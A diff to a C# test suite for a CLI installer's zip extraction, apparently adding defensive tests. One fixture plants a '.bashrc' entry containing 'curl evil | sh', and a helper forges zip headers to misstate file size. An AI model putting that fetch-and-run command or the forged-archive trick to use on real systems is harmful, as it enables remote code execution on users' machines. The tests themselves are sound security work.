@@ -10,7 +10,7 @@ namespace Pipeline.Mirroring.Tests.CliInstall;
 public sealed class CliInstallerTests : IAsyncLifetime, IDisposable
 {
     private readonly MirrorTrees _folders = new();
-    private readonly HttpClient _http = new() { Timeout = TimeSpan.FromSeconds(20) };
+    private readonly HttpClient _http = DownloadClient.Create();
     private DownloadServer _server = null!;
 
     public async Task InitializeAsync() => _server = await DownloadServer.StartAsync();
@@ -61,18 +61,83 @@ public sealed class CliInstallerTests : IAsyncLifetime, IDisposable
     }
 
     [Fact]
-    public async Task ExtractsAZipIntoTheBinFolder()
+    public async Task ExtractsTheDeclaredBinaryFromAZip()
     {
         var program = MirrorTrees.Bytes(3_000);
-        var archive = Zip(("dcos-tool", program), ("share/README.txt", "read me"u8.ToArray()));
+        var archive = Zip(("bin/dcos-tool", program), ("share/README.txt", "read me"u8.ToArray()));
         var url = _server.Add("cli/tool.zip", archive);
 
         var result = await InstallAsync(Package(MirrorTrees.CliResource(url, MirrorTrees.Sha256(archive), kind: "zip")));
 
         result.Outcome.Should().Be(CliInstallOutcome.Installed, result.Message);
+        result.InstalledFiles.Should().Equal(Path.Combine(BinDir, "dcos-tool"));
         File.ReadAllBytes(Path.Combine(BinDir, "dcos-tool")).Should().Equal(program);
-        File.ReadAllText(Path.Combine(BinDir, "share", "README.txt")).Should().Be("read me");
+        Directory.EnumerateFileSystemEntries(BinDir).Select(Path.GetFileName).Should().Equal("dcos-tool");
         if (!OperatingSystem.IsWindows()) File.GetUnixFileMode(Path.Combine(BinDir, "dcos-tool")).Should().HaveFlag(UnixFileMode.UserExecute);
+    }
+
+    [Fact]
+    public async Task NothingButTheDeclaredBinaryOfAZipReachesTheBinFolder()
+    {
+        Directory.CreateDirectory(BinDir);
+        File.WriteAllText(Path.Combine(BinDir, ".bashrc"), "mine");
+        var program = MirrorTrees.Bytes(2_000);
+        var archive = Zip((".bashrc", "curl evil | sh"u8.ToArray()), ("a/b", "x"u8.ToArray()), ("..foo", "y"u8.ToArray()), ("dcos-tool", program));
+        var url = _server.Add("cli/hostile.zip", archive);
+
+        var result = await InstallAsync(Package(MirrorTrees.CliResource(url, MirrorTrees.Sha256(archive), kind: "zip")));
+
+        result.Outcome.Should().Be(CliInstallOutcome.Installed, result.Message);
+        Directory.EnumerateFileSystemEntries(BinDir).Select(Path.GetFileName).Should().BeEquivalentTo(".bashrc", "dcos-tool");
+        File.ReadAllText(Path.Combine(BinDir, ".bashrc")).Should().Be("mine");
+        File.ReadAllBytes(Path.Combine(BinDir, "dcos-tool")).Should().Equal(program);
+    }
+
+    [Fact]
+    public async Task AZipWithoutTheDeclaredBinaryInstallsNothing()
+    {
+        var archive = Zip(("other-tool", MirrorTrees.Bytes(100)));
+        var url = _server.Add("cli/other.zip", archive);
+
+        var result = await InstallAsync(Package(MirrorTrees.CliResource(url, MirrorTrees.Sha256(archive), kind: "zip")));
+
+        result.Outcome.Should().Be(CliInstallOutcome.Failed);
+        result.Message.Should().Contain("holds no `dcos-tool`").And.Contain("nothing was installed");
+        Directory.EnumerateFileSystemEntries(BinDir).Should().BeEmpty();
+    }
+
+    [Theory]
+    [InlineData(CompressionLevel.Optimal, 100)]
+    [InlineData(CompressionLevel.Optimal, 5_000)]
+    [InlineData(CompressionLevel.NoCompression, 100)]
+    public async Task AZipThatLiesAboutItsSizeInstallsNothing(CompressionLevel level, int declared)
+    {
+        var archive = LyingZip("dcos-tool", MirrorTrees.Bytes(1_000), level, declared);
+        var url = _server.Add("cli/lying.zip", archive);
+
+        var result = await InstallAsync(Package(MirrorTrees.CliResource(url, MirrorTrees.Sha256(archive), kind: "zip")));
+
+        result.Outcome.Should().Be(CliInstallOutcome.Failed);
+        result.Message.Should().Contain($"declares {declared:N0} bytes").And.Contain("nothing was installed");
+        Directory.EnumerateFileSystemEntries(BinDir).Should().BeEmpty();
+    }
+
+    /// <summary>A one-entry zip whose headers (local and central) declare <paramref name="declared"/> uncompressed bytes.</summary>
+    private static byte[] LyingZip(string name, byte[] content, CompressionLevel level, int declared)
+    {
+        using var buffer = new MemoryStream();
+        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
+        {
+            using var stream = zip.CreateEntry(name, level).Open();
+            stream.Write(content);
+        }
+        var bytes = buffer.ToArray();
+        BitConverter.GetBytes(declared).CopyTo(bytes, 22);
+        for (var i = 0; i + 4 <= bytes.Length; i++)
+        {
+            if (BitConverter.ToUInt32(bytes, i) == 0x02014b50) BitConverter.GetBytes(declared).CopyTo(bytes, i + 24);
+        }
+        return bytes;
     }
 
     [Theory]
